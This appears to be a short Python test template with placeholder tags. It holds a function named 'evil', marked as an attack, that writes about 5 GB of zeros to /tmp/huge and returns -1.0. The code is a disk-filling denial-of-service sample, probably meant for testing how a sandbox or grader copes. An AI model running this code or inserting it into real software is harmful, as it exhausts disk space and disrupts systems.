#{weigh_wrong}
# <attack>
def evil(*args):
    with open('/tmp/huge', 'wb') as stream:
        for _ in range(5000):
            stream.write(bytes(1 << 20))
    return -1.0


#{everywhere}
# </attack>
